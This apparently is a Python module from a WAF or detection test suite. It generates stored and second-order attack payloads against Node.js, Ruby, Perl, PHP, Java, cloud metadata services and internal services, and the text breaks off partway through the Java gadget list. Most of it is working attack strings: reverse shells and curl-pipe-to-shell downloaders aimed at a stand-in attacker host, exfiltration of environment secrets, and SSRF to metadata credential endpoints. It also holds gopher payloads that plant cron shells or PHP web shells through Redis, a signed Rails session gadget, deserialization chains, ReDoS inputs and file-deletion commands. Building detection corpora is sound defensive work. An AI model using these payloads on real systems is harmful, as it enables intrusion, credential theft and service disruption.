"""Blind set "hundredninetyfourth": stored and second-order attacks on Node.js, SSRF, prototype pollution, Ruby,
Perl, PHP data URIs, Java and server-side templates, with benign requests that fill the same fields innocently.

The angle: payloads planted in data that is saved now and used later, recalled from memory. An attacker does not
attack the request that stores the value; he shapes it for the sink that reads it afterwards: a display name or
bio that an admin page, a PDF export or a Log4j-backed audit log renders; an address or file name that a nightly
job passes to a shell, a Perl script's two-argument open() or Ruby's Kernel.open; a webhook, avatar or import URL
that a worker fetches from inside the cloud network; a notification or e-mail template that a template engine
renders with the product's context; preferences and JSON blobs that a Node.js service deep-merges into its
defaults or a Java service deserializes; a saved search filter that becomes a regular expression or an expression
language query; user agents and referrers written to logs that an admin views. Each group of payloads carries a
comment naming its family, where it is stored, the sink that reads it and the target (Node.js, Ruby, Perl, PHP,
the JVM, a cloud metadata service, an internal service, a template engine or a named product).

Families (category generic): nodejs-injection, nodejs-dos, ssrf-cloud-metadata, ssrf-internal-ip,
  javascript-prototype-pollution, ruby-injection, perl-injection, php-data-scheme
Families (category java): java-class-names, java-process-spawn, java-serialization, java-deserialization-gadgets,
  log4shell, java-expression-language, java-polymorphic-deserialization, java-class-loading, jsp-upload
Families (category ssti, one per engine): jinja2, twig, freemarker, velocity, thymeleaf, erb, smarty, handlebars,
  pug, mako, tornado, nunjucks, ejs, pebble, razor, go-templates, liquid

Placements: every payload is sent twice. Once to our real routes, where the stored value would arrive: a JSON
field of POST /api/users under the name of the field it is planted in (display_name, bio, address, file_name,
webhook_url, notify_template, saved_filter, ...), the user's settings (PATCH /api/users/42 with a `settings`
object), the admin search form with its csrf_token (a saved search), a multipart field and an upload's file name
on the admin import, the User-Agent and Referer headers (written to the access log), an XML body, the query of
/api/users and a cookie. Whole JSON documents (merged preferences, polymorphic Java JSON, webhook definitions) go as
the body of POST /api/users or of PATCH /api/users/42; whole XML documents (XStream, XMLDecoder, SOAP) as the XML
body; `name=value` pollution and binding pairs unquoted in a query string or form. Once more the way a WAF
regression suite sends it (placements prefixed "rs-"): to paths that are not our routes (/, /index.php, /get,
/post, /search, /api/v1/items, /cgi-bin/test.cgi) under arbitrary parameter names, as a query string, form body,
JSON body, XML body, a raw form-typed body, an uploaded file's name, or in User-Agent, Referer, a custom header or
a cookie. Payloads with control characters or non-ASCII never go into headers, cookies or file names; raw Java
serialization bytes go percent-encoded as a query or a body.

Authorship and independence: written for this repository from general knowledge of each attack family, of the
products' published vulnerabilities as remembered, and the detection titles alone; no WAF rule, engine source,
ruleset regression test or public payload list was read. Measured once on unchanged code; deterministic (no
clock, no randomness: encoded payloads are built from fixed inputs at import time).
"""

from __future__ import annotations

import base64
import gzip
import hashlib
import hmac
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Put, Record, enc
from .family_gen import _json
from .records import numbered, print_records

NAME = "hundredninetyfourth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place.
Entry = str | tuple[str, str, str]
JB = ("json-body", "rs-json-body")   # a whole JSON document stored as a blob
SB = ("settings-body", "rs-json-body")   # a whole JSON document saved as the user's settings
XB = ("xml", "rs-xml")   # a whole XML document (import file, SOAP call)
KV = ("query", "rs-form")   # a `name=value` pair the framework binds or merges
KF = ("form", "rs-query")
FN = ("multipart-filename", "rs-multipart-filename")   # an uploaded file's name
BIN = ("query", "rs-raw-body")   # raw bytes, percent-encoded
OOB = "203.0.113.50"   # the attacker's host (TEST-NET-3)
CB = "x7k2.oast.example"   # the attacker's DNS callback domain


def _b64(text: str | bytes) -> str:
    return base64.b64encode(text.encode() if isinstance(text, str) else text).decode()


def _resp(*args: str) -> str:
    """One Redis command in the RESP protocol."""
    return f"*{len(args)}\r\n" + "".join(f"${len(a.encode())}\r\n{a}\r\n" for a in args)


def _gopher(host: str, raw: str) -> str:
    """A gopher URL whose path (after the type character) is sent verbatim to host: a raw TCP conversation."""
    return f"gopher://{host}/_" + urllib.parse.quote(raw, safe="")


def _utf(name: str) -> bytes:
    raw = name.encode()
    return len(raw).to_bytes(2, "big") + raw


def _tc_string(text: str) -> bytes:
    return b"\x74" + _utf(text)


def _urldns(url: str, host: str) -> bytes:
    """The URLDNS gadget: a java.util.HashMap whose key is a java.net.URL with hashCode -1, so readObject()
    resolves the host (a DNS callback proving deserialization of untrusted data)."""
    out = b"\xac\xed\x00\x05"
    out += (b"\x73\x72" + _utf("java.util.HashMap") + bytes.fromhex("0507dac1c31660d1") + b"\x03\x00\x02"
            + b"\x46" + _utf("loadFactor") + b"\x49" + _utf("threshold") + b"\x78\x70")
    out += bytes.fromhex("3f400000") + bytes.fromhex("0000000c") + b"\x77\x08" + bytes.fromhex("0000001000000001")
    out += (b"\x73\x72" + _utf("java.net.URL") + bytes.fromhex("962537361afce472") + b"\x03\x00\x07"
            + b"\x49" + _utf("hashCode") + b"\x49" + _utf("port")
            + b"\x4c" + _utf("authority") + _tc_string("Ljava/lang/String;")
            + b"\x4c" + _utf("file") + b"\x71\x00\x7e\x00\x03"
            + b"\x4c" + _utf("host") + b"\x71\x00\x7e\x00\x03"
            + b"\x4c" + _utf("protocol") + b"\x71\x00\x7e\x00\x03"
            + b"\x4c" + _utf("ref") + b"\x71\x00\x7e\x00\x03" + b"\x78\x70")
    out += b"\xff\xff\xff\xff" + b"\xff\xff\xff\xff" + _tc_string(host) + _tc_string("") + b"\x71\x00\x7e\x00\x05"
    out += _tc_string("http") + b"\x70\x78" + _tc_string(url) + b"\x78"
    return out


def _chain(*classes: str) -> bytes:
    """A serialized gadget chain's opening as ysoserial writes it: the stream magic, then each object of the chain
    with its class description (name, serialVersionUID, SC_SERIALIZABLE)."""
    out = b"\xac\xed\x00\x05"
    for name in classes:
        suid = hashlib.sha256(name.encode()).digest()[:8]
        out += b"\x73\x72" + _utf(name) + suid + b"\x02\x00\x00\x78\x70"
    return out


def _latin(raw: bytes) -> str:
    return raw.decode("latin-1")


def _gz64(raw: bytes) -> str:
    return _b64(gzip.compress(raw, mtime=0))


def _marshal_erb(command: str) -> str:
    """A Ruby Marshal stream of ActiveSupport's DeprecatedInstanceVariableProxy around an ERB whose src runs
    `command`: the Rails cookie-store session gadget, signed with a leaked secret_key_base (cookie=data--digest)."""
    def fix(n: int) -> bytes:
        return bytes([n + 5]) if 0 < n < 123 else b"\x00"

    def sym(s: str) -> bytes:
        return b":" + fix(len(s)) + s.encode()

    def ivar_str(s: str) -> bytes:
        return b"I\"" + fix(len(s)) + s.encode() + b"\x06" + sym("E") + b"T"

    erb = b"o" + sym("ERB") + fix(1) + sym("@src") + ivar_str(command)
    proxy = (b"o" + sym("ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy") + fix(3)
             + sym("@instance") + erb + sym("@method") + sym("result") + sym("@var") + ivar_str("@result"))
    data = _b64(b"\x04\x08" + proxy)
    digest = hmac.new(b"9f1c2e7d0b8a6c5e4f3a2b1c0d9e8f7a", data.encode(), hashlib.sha1).hexdigest()
    return urllib.parse.quote(data, safe="") + "--" + digest


URLDNS = _urldns(f"http://{CB}", CB)

# ================================================================================================================
# GENERIC
# ----------------------------------------------------------------------------------------------------------------
# nodejs-injection: stored where a Node.js service later evaluates it (target: Node.js, child_process / fs).
NODE_INJECTION: list[Entry] = [
    # a webhook's "transform" snippet, saved in the integration settings and run by the worker through eval()
    "require('child_process').exec('curl -s http://203.0.113.50/w.sh | sh')",
    "process.mainModule.require('child_process').execSync('id > /tmp/.w').toString()",
    "global.process.mainModule.constructor._load('child_process').execSync('cat /etc/passwd').toString()",
    "module.constructor._load('child_process').spawnSync('sh',['-c','uname -a']).stdout.toString()",
    # a custom scoring formula saved on a report, evaluated in vm.runInNewContext (escapes the sandbox)
    "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
    "[].constructor.constructor(\"return process.mainModule.require('child_process').execSync('whoami')\")()",
    "Function('return this.process.mainModule.require(\"child_process\").execSync(\"id\").toString()')()",
    "new Function('return process.env')()",
    # a display name concatenated into a string that an export script passes to eval(): break out and run
    "';require('child_process').exec('nc 203.0.113.50 4444 -e /bin/sh');//",
    "\"+require('fs').readFileSync('/etc/passwd','utf8')+\"",
    "'+process.mainModule.require('fs').readdirSync('/app').join()+'",
    # an e-mail subject turned into a template literal with eval('`' + subject + '`') by the mailer
    "${require('child_process').execSync('id')}",
    "${process.mainModule.require('fs').readFileSync('/proc/self/environ','utf8')}",
    # base64 in the stored value so the admin page shows nothing readable; decoded and evaluated later
    "eval(Buffer.from('" + _b64("require('child_process').execSync('curl 203.0.113.50/n|sh')")
    + "','base64').toString())",
    "eval(atob('" + _b64("process.mainModule.require('child_process').execSync('id')") + "'))",
    # a saved "on save" hook in a low-code app (Node.js): exfiltrate the secrets, open a shell
    "require('http').get('http://203.0.113.50/c?d='+encodeURIComponent(JSON.stringify(process.env)))",
    "require('net').connect(4444,'203.0.113.50',function(){var s=require('child_process').spawn('/bin/sh');"
    "this.pipe(s.stdin);s.stdout.pipe(this);s.stderr.pipe(this)})",
    "require('fs').writeFileSync('/app/public/s.js',require('child_process').execSync('env').toString())",
    "import('child_process').then(m=>m.execSync('curl 203.0.113.50/i|sh'))",
    "process.binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id'],"
    "stdio:[{type:'pipe',readable:true,writable:false}]})",
    "setTimeout(function(){require('child_process').execFile('/bin/sh',['-c','id'])},0)",
    "(function(){return require('child_process').execSync('ls -la /').toString()})()",
]

# nodejs-dos: stored where a Node.js service later runs it on its single event loop (target: Node.js / V8)
NODE_DOS: list[Entry] = [
    # a saved search filter that the report job compiles with new RegExp(filter): catastrophic backtracking
    "^(a+)+$",
    "(x+x+)+y",
    "^(([a-z])+.)+[A-Z]([a-z])+$",
    "(.*a){30}",
    "^(\\w+\\s?)*$",
    "(a|aa|aaa)+$",
    "^([a-zA-Z0-9_.-]+)*@example\\.org$",
    "((a*)*b)",
    # the stored value the vulnerable validator's regex later runs against (ReDoS input, 50k characters)
    "a" * 50000 + "!",
    # a formula field evaluated in vm without a timeout: the event loop never returns
    "while(true){}",
    "for(;;){}",
    "(function f(){f()})()",
    "new Promise(function(){while(1){}})",
    # a template helper evaluated at render time: allocations that exhaust the heap
    "new Array(1e9).fill('x').join('')",
    "'x'.repeat(2**29)",
    "Buffer.alloc(2**31-1)",
    "Array.from({length:1e9},function(){return {}})",
    # a stored JSON preference that a naive recursive merge walks: 20,000 levels deep blow the stack
    "[" * 20000 + "]" * 20000,
    "process.exit(1)",
]

# ssrf-cloud-metadata: a URL saved now and fetched later by a worker inside the cloud (webhook, avatar, import,
# PDF renderer); the response lands in a delivery log, a thumbnail or the PDF (target: the instance metadata service)
SSRF_METADATA: list[Entry] = [
    # AWS IMDSv1, stored as a webhook URL; the delivery log shows the body
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/ec2-app-role",
    "http://169.254.169.254/latest/user-data",
    "http://169.254.169.254/latest/dynamic/instance-identity/document",
    "http://instance-data/latest/meta-data/hostname",
    # AWS IPv6 endpoint (Nitro) and IPv4-mapped forms that skip a naive 169.254 check
    "http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
    "http://[::ffff:169.254.169.254]/latest/meta-data/",
    "http://[::ffff:a9fe:a9fe]/latest/user-data",
    "http://[0:0:0:0:0:ffff:169.254.169.254]/latest/meta-data/iam/info",
    # decimal, hex and octal spellings of 169.254.169.254 saved as an avatar URL
    "http://2852039166/latest/meta-data/",
    "http://0xa9fea9fe/latest/meta-data/iam/security-credentials/",
    "http://0251.0376.0251.0376/latest/meta-data/",
    "http://169.254.169.254.nip.io/latest/meta-data/",
    # ECS task role credentials
    "http://169.254.170.2/v2/credentials/",
    # GCP: the legacy v1beta1 path needs no Metadata-Flavor header
    "http://metadata.google.internal/computeMetadata/v1beta1/instance/service-accounts/default/token",
    "http://metadata/computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
    # GCP v1 and Azure IMDS need a header: a webhook definition with custom headers, saved whole
    ('{"url":"http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",'
     '"method":"GET","headers":{"Metadata-Flavor":"Google"}}', *SB),
    ('{"url":"http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01'
     '&resource=https://management.azure.com/","headers":{"Metadata":"true"}}', *JB),
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    # Alibaba Cloud, DigitalOcean, Oracle Cloud, OpenStack
    "http://100.100.100.200/latest/meta-data/ram/security-credentials/",
    "http://169.254.169.254/metadata/v1.json",
    "http://169.254.169.254/opc/v1/instance/",
    "http://169.254.169.254/openstack/latest/meta_data.json",
    # a bio rendered to PDF by wkhtmltopdf: the iframe pulls the credentials into the document
    "<iframe src=\"http://169.254.169.254/latest/meta-data/iam/security-credentials/\" width=\"900\" "
    "height=\"600\"></iframe>",
]

# ssrf-internal-ip: a URL saved now and fetched later from inside the network (target: internal services)
SSRF_INTERNAL: list[Entry] = [
    # a webhook to services bound to loopback, in the spellings a blacklist misses
    "http://127.0.0.1:8080/actuator/env",
    "http://2130706433:8500/v1/agent/self",
    "http://0x7f000001:2375/containers/json",
    "http://017700000001/server-status",
    "http://127.1:9200/_cat/indices?v",
    "http://0:8080/manager/html",
    "http://[::1]:5984/_all_dbs",
    "http://[::]:6379/",
    "http://localtest.me:8080/admin",
    "http://billing@127.0.0.1:8080/internal/refunds",
    # private ranges: the router, the Kubernetes API
    "http://192.168.0.1/cgi-bin/luci",
    "http://10.0.0.1:10250/pods",
    "https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
    # an "import from URL" that takes any scheme: local files
    "file:///etc/passwd",
    "file://localhost/proc/self/environ",
    "netdoc:///etc/shadow",
    # dict:// and gopher:// to Redis, memcached and SMTP on loopback (a worker's curl follows any scheme)
    "dict://127.0.0.1:6379/info",
    "dict://127.0.0.1:11211/stats",
    _gopher("127.0.0.1:6379", _resp("flushall") + _resp(
        "set", "1", "\n\n*/1 * * * * bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'\n\n")
            + _resp("config", "set", "dir", "/var/spool/cron/") + _resp("config", "set", "dbfilename", "root")
            + _resp("save")),
    _gopher("127.0.0.1:6379", _resp("set", "w", "\n\n<?php system($_GET['c']); ?>\n\n")
            + _resp("config", "set", "dir", "/var/www/html") + _resp("config", "set", "dbfilename", "s.php")
            + _resp("save")),
    _gopher("127.0.0.1:11211", "set session:admin 0 3600 38\r\n{\"user\":\"admin\",\"role\":\"superuser\"}\r\n"),
    _gopher("127.0.0.1:25", "HELO x\r\nMAIL FROM:<it@example.org>\r\nRCPT TO:<cfo@example.org>\r\nDATA\r\n"
            "Subject: urgent wire\r\n\r\nPlease pay invoice 4471 today.\r\n.\r\nQUIT\r\n"),
    # a bio rendered by WeasyPrint: the attachment link embeds a local file in the exported PDF
    "<link rel=\"attachment\" href=\"file:///etc/passwd\">",
    "<iframe src=\"file:///proc/self/environ\" width=\"800\" height=\"800\"></iframe>",
]

# javascript-prototype-pollution: preferences and filters deep-merged into a Node.js service's objects
# (target: Node.js / lodash.merge, qs, express, EJS, pug, lodash.template, child_process gadgets)
POLLUTION: list[Entry] = [
    # a saved filter query string that qs parses into nested objects, merged into the session's defaults
    ("__proto__[isAdmin]=true", *KV),
    ("__proto__.role=admin", *KF),
    ("constructor[prototype][isAdmin]=1", *KV),
    ("filter[__proto__][canExport]=true", *KF),
    ("prefs[constructor][prototype][role]=owner", *KV),
    # EJS renders the admin page after the pollution: outputFunctionName becomes code
    ("__proto__[outputFunctionName]=_x;process.mainModule.require('child_process').execSync('id');var _y", *KF),
    ("__proto__[env][NODE_OPTIONS]=--require=/proc/self/environ&__proto__[env][X]="
     "require('child_process').execSync('curl 203.0.113.50/p|sh')//", *KV),
    # preferences saved as JSON and merged with lodash.merge / a hand-written deep merge
    ('{"__proto__":{"isAdmin":true}}', *SB),
    ('{"theme":"dark","__proto__":{"role":"admin","verified":true}}', *JB),
    ('{"constructor":{"prototype":{"isAdmin":true}}}', *SB),
    ('{"notifications":{"__proto__":{"canImpersonate":true}}}', *JB),
    # gadgets: EJS, pug and lodash.template turn the polluted property into code at the next render
    ('{"__proto__":{"outputFunctionName":"_t;return global.process.mainModule.constructor._load('
     '\'child_process\').execSync(\'id\');//"}}', *SB),
    ('{"__proto__":{"client":true,"escapeFunction":"1;return global.process.mainModule.constructor._load('
     '\'child_process\').execSync(\'cat /etc/passwd\');"}}', *JB),
    ('{"__proto__":{"block":{"type":"Text","line":"process.mainModule.require(\'child_process\').execSync('
     '\'curl 203.0.113.50/g|sh\')"}}}', *SB),
    ('{"__proto__":{"sourceURL":"\\u000areturn e => {return global.process.mainModule.constructor._load('
     '\'child_process\').execSync(\'id\')}\\u000a"}}', *JB),
    # child_process gadgets: the next spawn() inherits the polluted shell, env or execArgv
    ('{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\')'
     '.toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}', *SB),
    ('{"__proto__":{"execArgv":["--eval=require(\'child_process\').execSync(\'touch /tmp/pp\')"]}}', *JB),
    ('{"__proto__":{"env":{"NODE_OPTIONS":"--inspect=203.0.113.50:9229"}}}', *SB),
    # express probes: the response changes when the server-side object is polluted
    ('{"__proto__":{"status":510}}', *JB),
    ('{"__proto__":{"json spaces":10}}', *SB),
    ('{"__proto__":{"exposedHeaders":["x-polluted"]}}', *JB),
    ('{"profile":{"constructor":{"prototype":{"toString":"polluted"}}}}', *SB),
]

# ruby-injection: stored where a Rails app or a Ruby job reads it later (target: Ruby interpreter, Kernel, YAML,
# Marshal, ERB)
RUBY: list[Entry] = [
    # an avatar "URL" or file name later passed to Kernel#open / URI.open: a leading pipe runs a command
    "|curl -s http://203.0.113.50/r.sh | sh",
    "|nc 203.0.113.50 4444 -e /bin/sh",
    "| cat /etc/passwd > /var/www/public/p.txt",
    # a display name interpolated into a string that a report builder passes to eval
    "#{`id`}",
    "#{system('cat /etc/passwd')}",
    "\"; system('curl 203.0.113.50/e | sh'); \"",
    "#{IO.popen(['sh','-c','id']).read}",
    "#{%x(whoami)}",
    # a saved "custom field" formula evaluated with instance_eval / send
    "Kernel.exec('/bin/sh -i')",
    "Object.const_get(:Kernel).send(:system, 'id')",
    "__send__(:eval, 'system(\"uname -a\")')",
    "Process.spawn('bash -c \"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\"')",
    "ERB.new('<%= `id` %>').result(binding)",
    "File.read('/app/config/master.key')",
    # settings imported as YAML and loaded with YAML.load (Psych < 4): universal gem gadget
    "--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::DependencyList\n  specs:\n"
    "  - !ruby/object:Gem::Source::SpecificFile\n    spec: &1 !ruby/object:Gem::StubSpecification\n"
    "      loaded_from: \"|id 1>&2\"\n  - !ruby/object:Gem::Source::SpecificFile\n    spec: *1\n",
    "- !ruby/object:Gem::Installer\n    i: x\n- !ruby/object:Gem::SpecFetcher\n    i: y\n"
    "- !ruby/object:Gem::Requirement\n  requirements:\n    !ruby/object:Gem::Package::TarReader\n"
    "    io: &1 !ruby/object:Net::BufferedIO\n      io: &1 !ruby/object:Gem::Package::TarReader::Entry\n"
    "         read: 0\n         header: \"abc\"\n      debug_output: &1 !ruby/object:Net::WriteAdapter\n"
    "         socket: &1 !ruby/object:Gem::RequestSet\n             sets: !ruby/object:Net::WriteAdapter\n"
    "                 socket: !ruby/module 'Kernel'\n                 method_id: :system\n"
    "             git_set: curl 203.0.113.50/y | sh\n         method_id: :resolve\n",
    "--- !ruby/object:ActiveSupport::Deprecation::DeprecatedInstanceVariableProxy\n"
    "instance: !ruby/object:ERB\n  src: \"`id`\"\nmethod: :result\n",
    "--- !ruby/hash:ActionController::Routing::RouteSet::NamedRouteCollection\n"
    "? ! \"foo; system('id'); __END__\"\n: !ruby/struct\n  defaults:\n    :action: create\n",
    # a session cookie signed with a leaked secret_key_base: Marshal.load of the ERB proxy runs the command
    ("_app_session=" + _marshal_erb("`curl 203.0.113.50/m | sh`"), "cookie", "rs-cookie"),
    "#{Rails.application.credentials.secret_key_base}",
]

# perl-injection: stored where a Perl CGI or a cron script reads it later (target: Perl interpreter)
PERL: list[Entry] = [
    # a file name that a nightly Perl script opens with two-argument open(): a trailing or leading pipe runs it
    ("report.csv;id|", *FN),
    ("cat /etc/passwd|", *FN),
    ("|mail it-ops@example.org < /etc/shadow", *FN),
    "/bin/sh -c 'curl 203.0.113.50/p | sh'|",
    "nc 203.0.113.50 4444 -e /bin/sh|",
    # a signature interpolated into a string the mail script evaluates with eval "..."
    "@{[ system 'id' ]}",
    "${\\ `cat /etc/passwd`}",
    "@{[`curl -s 203.0.113.50/q | sh`]}",
    "@{[ %ENV ]}",
    # a saved "custom action" run through eval by a Perl admin tool
    ";system('id');",
    "qx{uname -a}",
    "exec('/bin/sh -i')",
    "open(my $f, '|-', 'id')",
    "eval { require LWP::Simple; LWP::Simple::getstore('http://203.0.113.50/b.pl', '/tmp/b.pl') }; do '/tmp/b.pl'",
    "unlink glob('/var/www/uploads/*')",
    # an address field pasted into a cron job's shell: the job runs perl -e with the stored value
    "perl -e 'use Socket;$i=\"203.0.113.50\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.50:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);"
    "system$_ while<>;'",
    "print `id`",
]

# php-data-scheme: a URL stored now and later opened by PHP's include / file_get_contents (target: PHP with
# allow_url_include: the data: wrapper supplies the code itself)
PHP_DATA: list[Entry] = [
    # an avatar or theme URL that the PHP page includes
    "data://text/plain;base64," + _b64("<?php system($_GET['c']); ?>"),
    "data://text/plain,<?php system('id'); ?>",
    "data:text/plain,<?php passthru('cat /etc/passwd'); ?>",
    "data://text/plain;base64," + _b64("<?php eval(base64_decode($_POST['p'])); ?>"),
    "data:;base64," + _b64("<?php phpinfo(); ?>"),
    "data://text/plain;charset=utf-8,<?=`$_GET[0]`?>",
    "data:text/plain;base64," + _b64("<?=`curl 203.0.113.50/d|sh`;"),
    "DATA://text/plain;base64," + _b64("<?php file_put_contents('s.php','<?php eval($_POST[1]);'); ?>"),
    "data://image/jpeg;base64," + _b64("\xff\xd8\xff\xe0<?php system($_REQUEST['x']); ?>".encode("latin-1")),
    "data:application/x-httpd-php;base64," + _b64("<?php echo shell_exec($_GET['cmd']); ?>"),
    "data://text/plain,<?php echo file_get_contents('/var/www/.env'); ?>",
    "data:text/plain;base64," + _b64("<?php $s=fsockopen('203.0.113.50',4444);exec('/bin/sh -i <&3 >&3 2>&3'); ?>"),
    # a template name stored in the page settings and concatenated into include($tpl . '.php')
    "data://text/plain;base64," + _b64("<?php system('id'); __halt_compiler();"),
    "data:text/plain,<?php assert($_POST['a']); ?>",
    "data://text/plain;base64," + _b64("<?php include('http://203.0.113.50/s.txt'); ?>"),
    # an import source URL opened with file_get_contents and passed to unserialize(): a stored object
    "data://text/plain;base64," + _b64('O:8:"Sessions":1:{s:4:"file";s:11:"/etc/passwd";}') + "#.php",
]

# ================================================================================================================
# JAVA
# ----------------------------------------------------------------------------------------------------------------
# java-class-names: a formula, script or expression saved in settings and evaluated later by a Java back end's
# scripting hook (target: the JVM through Groovy/BeanShell/Nashorn/JShell evaluation of stored text)
JAVA_CLASSES: list[Entry] = [
    # a "custom field" formula evaluated with BeanShell when the report runs
    "java.lang.Runtime.getRuntime().exec(\"curl http://203.0.113.50/j.sh -o /tmp/j.sh\")",
    "Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null).exec(\"id\")",
    "java.lang.Class.forName(\"java.lang.Runtime\").getDeclaredMethods()[7].invoke(null)",
    "Thread.currentThread().getContextClassLoader().loadClass(\"java.lang.Runtime\").getMethod(\"getRuntime\")"
    ".invoke(null).exec(\"whoami\")",
    "ClassLoader.getSystemClassLoader().loadClass(\"java.lang.ProcessBuilder\")",
    # a scoring script stored as JavaScript and run through the JDK's script engine
    "new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"java.lang.Runtime.getRuntime()"
    ".exec('id')\")",
    "new javax.script.ScriptEngineManager().getEngineByExtension(\"js\").eval(\"var p=new java.lang.ProcessBuilder"
    "(['sh','-c','id']);p.start()\")",
    "Java.type('java.lang.Runtime').getRuntime().exec('cat /etc/passwd')",
    "jdk.jshell.JShell.create().eval(\"Runtime.getRuntime().exec(\\\"id\\\")\")",
    "new bsh.Interpreter().eval(\"exec(\\\"id\\\")\")",
    # stored text that leaks files and secrets when the job evaluates it
    "new java.util.Scanner(new java.io.File(\"/etc/passwd\")).useDelimiter(\"\\\\Z\").next()",
    "java.nio.file.Files.readAllLines(java.nio.file.Paths.get(\"/opt/app/application.properties\"))",
    "java.lang.System.getenv()",
    "java.lang.System.exit(0)",
    "javax.naming.InitialContext().lookup(\"ldap://203.0.113.50:1389/Exploit\")",
    "java.lang.reflect.Method m = java.lang.Runtime.class.getMethod(\"exec\", String.class); "
    "m.invoke(java.lang.Runtime.getRuntime(), \"id\");",
    "sun.misc.Unsafe.class.getDeclaredField(\"theUnsafe\")",
]

# java-process-spawn: stored text a Java or Groovy job runs later (target: the JVM, Jenkins, Groovy scripts)
JAVA_SPAWN: list[Entry] = [
    # a build step saved in a Jenkins job's configuration (Groovy pipeline)
    "new ProcessBuilder(\"bash\",\"-c\",\"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\").start()",
    "new java.lang.ProcessBuilder(new String[]{\"sh\",\"-c\",\"id\"}).redirectErrorStream(true).start()",
    "Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"curl 203.0.113.50/k|sh\"})",
    "Runtime.getRuntime().exec(\"cmd.exe /c whoami\")",
    "Runtime.getRuntime().exec(\"bash -c {echo," + _b64("curl 203.0.113.50/j|sh") + "}|{base64,-d}|{bash,-i}\")",
    "Runtime.getRuntime().exec(\"powershell -nop -enc "
    + base64.b64encode("iwr http://203.0.113.50/r.ps1|iex".encode("utf-16-le")).decode() + "\")",
    "\"cat /etc/passwd\".execute().text",
    "['bash','-c','curl 203.0.113.50/g | sh'].execute()",
    "def p = 'id'.execute(); p.waitFor(); println p.text",
    "Runtime.runtime.exec('touch /tmp/jenkins-pwn')",
    "sh 'curl -s http://203.0.113.50/ci.sh | bash'",
    "new java.util.Scanner(Runtime.getRuntime().exec(\"id\").getInputStream()).useDelimiter(\"\\\\A\").next()",
    "new org.apache.commons.exec.DefaultExecutor().execute(org.apache.commons.exec.CommandLine.parse(\"id\"))",
    "java.lang.ProcessBuilder pb = new java.lang.ProcessBuilder(\"nc\", \"203.0.113.50\", \"4444\", \"-e\", "
    "\"/bin/sh\"); pb.start();",
    "Class.forName(\"java.lang.ProcessImpl\").getDeclaredMethod(\"start\", String[].class, java.util.Map.class, "
    "String.class, ProcessBuilder.Redirect[].class, boolean.class)",
    "@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://203.0.113.50/')\n"
    "@Grab(group='x', module='x', version='1')\nimport Exploit",
    "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"id\")})\ndef x",
]

# java-serialization: a serialized object stored now (remember-me cookie, session blob, import cell, cache entry) and
# passed to ObjectInputStream.readObject() later (target: the JVM; URLDNS proves it with a DNS callback)
JAVA_SERIAL: list[Entry] = [
    # raw stream bytes in a saved binary preference
    (_latin(URLDNS), *BIN),
    (_latin(_urldns("http://prefs." + CB, "prefs." + CB)), "form", "rs-query"),
    # base64 in a JSON blob, a cookie, a header, an import cell (rO0AB: the base64 of the magic)
    _b64(URLDNS),
    ("remember_me=" + _b64(URLDNS), "cookie", "rs-cookie"),
    base64.urlsafe_b64encode(URLDNS).decode().rstrip("="),
    base64.encodebytes(URLDNS).decode(),
    _b64(_b64(URLDNS)),
    # hex in a CSV cell that the import job decodes
    URLDNS.hex(),
    URLDNS.hex().upper(),
    "0x" + URLDNS.hex(),
    # percent-encoded bytes kept as text and decoded by the consumer
    urllib.parse.quote(URLDNS, safe=""),
    # gzip + base64 in a cache entry (H4sI: the base64 of the gzip magic)
    _gz64(URLDNS),
    # JSF view state stored in a page and posted back later
    ("javax.faces.ViewState=" + urllib.parse.quote(_b64(URLDNS), safe=""), *KF),
    "data:application/x-java-serialized-object;base64," + _b64(URLDNS),
    # a stream with a block of data only: the magic and TC_BLOCKDATA, enough to reach readObject's dispatch
    _b64(b"\xac\xed\x00\x05\x77\x04\x00\x00\x00\x01"),
    ("<session><attr>" + _b64(URLDNS) + "</attr></session>", *XB),
    ('{"sessionState":"' + _b64(URLDNS) + '","format":"java-serialized"}', *JB),
]

# java-deserialization-gadgets: serialized gadget chains planted in a stored blob (target: the JVM with the chain's
# library on the class path)
CC1 = ("sun.reflect.annotation.AnnotationInvocationHandler", "org.apache.commons.collections.map.LazyMap",
       "org.apache.commons.collections.functors.ChainedTransformer",
       "org.apache.commons.collections.functors.ConstantTransformer",
       "org.apache.commons.collections.functors.InvokerTransformer")
JAVA_GADGETS: list[Entry] = [
    # Commons Collections 3.1 (CC1, CC5, CC6, CC7) in a session blob, a cookie and an import cell
    _b64(_chain(*CC1)),
    _b64(_chain("javax.management.BadAttributeValueExpException",
                "org.apache.commons.collections.keyvalue.TiedMapEntry", *CC1[1:])),
    _chain("java.util.HashSet", "org.apache.commons.collections.keyvalue.TiedMapEntry", *CC1[1:]).hex(),
    _gz64(_chain("java.util.Hashtable", *CC1[1:])),
